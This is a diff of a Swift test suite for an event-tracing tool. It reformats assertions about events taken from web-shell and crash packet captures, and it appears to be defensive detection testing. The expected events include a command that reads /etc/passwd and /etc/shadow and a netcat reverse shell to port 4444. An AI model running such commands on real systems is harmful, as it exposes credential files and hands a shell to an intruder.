@@ -54,7 +54,8 @@ import Testing
     let lines = events.compactMap { $0["process.command_line"]?.string }
     #expect(lines.contains { $0.contains("cat /etc/passwd /etc/shadow") && $0.hasPrefix("sh -c") })
     #expect(lines.contains("nc 127.0.0.1 4444 -e /bin/sh"))
-    #expect(events.contains { $0["file.path"]?.string == "/etc/shadow" && $0["aftertrace.kind"]?.string == "file.open" })
+    #expect(
+      events.contains { $0["file.path"]?.string == "/etc/shadow" && $0["aftertrace.kind"]?.string == "file.open" })
     let call = try #require(events.first { $0["destination.port"]?.integer == 4444 })
     #expect(call["destination.ip"]?.string == "127.0.0.1")
     #expect(call["event.outcome"]?.string == "failure")
@@ -73,7 +74,9 @@ import Testing
     let end = try #require(events.last { $0["process.pid"]?.integer == Int64(billing.key.pid) })
     #expect(end["process.exit_code"]?.integer == 139)
     #expect(end["aftertrace.signal"]?.string == "SIGSEGV")
-    #expect(events.contains { $0["file.path"]?.string == "/data/ledger.txt" && $0["aftertrace.kind"]?.string == "file.write" })
+    #expect(
+      events.contains { $0["file.path"]?.string == "/data/ledger.txt" && $0["aftertrace.kind"]?.string == "file.write" }
+    )
   }
 
   @Test(arguments: ["web-shell.pcapng", "crash.pcapng"])
@@ -108,10 +111,12 @@ import Testing
 }
 
 @Suite struct CalendarTimeTests {
-  @Test(arguments: [
-    (0, "1970-01-01T00:00:00.000000+00:00"), (1_795_466_467_123_456_789, "2026-11-23T20:41:07.123456+00:00"),
-    (951_782_400_000_000_000, "2000-02-29T00:00:00.000000+00:00"), (-1, "1969-12-31T23:59:59.999999+00:00"),
-  ] as [(Int64, String)]) func `wall times are dates of the calendar`(nanoseconds: Int64, text: String) {
+  @Test(
+    arguments: [
+      (0, "1970-01-01T00:00:00.000000+00:00"), (1_795_466_467_123_456_789, "2026-11-23T20:41:07.123456+00:00"),
+      (951_782_400_000_000_000, "2000-02-29T00:00:00.000000+00:00"), (-1, "1969-12-31T23:59:59.999999+00:00"),
+    ] as [(Int64, String)]) func `wall times are dates of the calendar`(nanoseconds: Int64, text: String)
+  {
     #expect(CalendarTime(WallTime(nanoseconds: nanoseconds)).iso8601() == text)
   }
 
